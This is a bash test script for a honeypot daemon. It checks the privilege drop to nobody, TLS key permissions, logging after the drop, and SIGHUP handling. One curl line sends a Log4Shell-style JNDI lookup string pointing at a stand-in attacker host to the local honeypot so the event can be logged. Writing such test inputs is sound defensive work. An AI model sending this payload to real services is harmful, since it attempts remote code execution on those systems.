#!/usr/bin/env bash
# honeypot_privdrop.sh -- run as root with `user nobody`: the daemon binds a
# privileged port (< 1024), then runs as nobody (uid, gid and supplementary
# groups checked in /proc), still serves and logs to the file it opened
# before dropping, and keeps that file when SIGHUP cannot reopen it.  A TLS
# listener's self-signed certificate is generated and loaded before the
# drop: the key stays root's (mode 0600, in a 0700 state_dir nobody cannot
# read) and the daemon running as nobody still completes handshakes.
source "$(dirname "$0")/honeypot/common.sh"
[ "$(id -u)" = 0 ] || { echo "SKIP: needs root"; exit 77; }
id nobody >/dev/null 2>&1 || { echo "SKIP: no user nobody"; exit 77; }
PRIV=
for p in 981 982 983 984 985 986 987 988; do
    if python3 -c "import socket; socket.socket().bind(('127.0.0.1', $p))" 2>/dev/null; then PRIV=$p; break; fi
done
[ -n "$PRIV" ] || { echo "SKIP: no free port below 1024"; exit 77; }
read -r PH < <(freeports 1)
mkdir -p "$T/logs"
chmod 700 "$T/logs" # root only: nobody cannot create files here
cat >"$T/hp.conf" <<CONF
user nobody
log_file $T/logs/events.jsonl
state_dir $T/state
[listener web]
protocol http
listen 127.0.0.1:$PRIV
[listener web-tls]
protocol https
listen 127.0.0.1:$PH
CONF
hp_start "$T/hp.conf"
uid=$(awk '/^Uid:/ {print $2, $3, $4, $5}' "/proc/$HP_PID/status")
gid=$(awk '/^Gid:/ {print $2, $3, $4, $5}' "/proc/$HP_PID/status")
groups=$(awk '/^Groups:/ {print $2}' "/proc/$HP_PID/status")
nu=$(id -u nobody); ng=$(id -g nobody)
[ "$uid" = "$nu $nu $nu $nu" ] || fail "uids after drop: $uid (want $nu)"
[ "$gid" = "$ng $ng $ng $ng" ] || fail "gids after drop: $gid (want $ng)"
[ -z "$groups" ] || fail "supplementary groups kept: $groups"
ok "running as nobody (uid $nu, gid $ng, no supplementary groups) on port $PRIV"
curl -sS -o /dev/null -H 'X-Forwarded-For: ${jndi:ldap://priv.attacker.test/a}' "http://127.0.0.1:$PRIV/"
wait_events "$T/logs/events.jsonl" 'priv.attacker.test'
ok "serves and logs after the drop"
[ "$(stat -c '%U %a' "$T/state/tls-key.pem")" = "root 600" ] || fail "key: $(stat -c '%U %a' "$T/state/tls-key.pem")"
[ "$(stat -c '%U %a' "$T/state")" = "root 700" ] || fail "state_dir: $(stat -c '%U %a' "$T/state")"
code=$(curl -sk -o /dev/null -w '%{http_code}' "https://127.0.0.1:$PH/tls-after-drop") || fail "https after the drop"
[ "$code" = 404 ] || fail "https after the drop answered $code"
wait_events "$T/logs/events.jsonl" '"uri":"/tls-after-drop"'
ok "TLS key generated as root before the drop (root 600), https served as nobody"
mv "$T/logs/events.jsonl" "$T/logs/events.jsonl.1"
kill -HUP "$HP_PID"
sleep 0.3
kill -0 "$HP_PID" || fail "died on SIGHUP"
grep -q "cannot reopen" "$T/hp.err" || fail "reopen failure not reported"
curl -sS -o /dev/null "http://127.0.0.1:$PRIV/after"
wait_events "$T/logs/events.jsonl.1" '"uri":"/after"'
ok "SIGHUP without permission: reported, old file kept"
hp_stop
echo "PASS"
